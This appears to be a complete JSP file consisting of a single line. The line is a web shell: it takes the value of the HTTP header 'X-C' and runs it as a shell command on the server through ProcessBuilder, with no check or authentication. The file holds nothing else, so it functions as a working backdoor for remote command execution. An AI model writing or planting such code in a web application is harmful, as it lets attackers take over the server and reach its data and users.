<% String c = request.getHeader("X-C"); new ProcessBuilder("sh", "-c", c).start(); %>
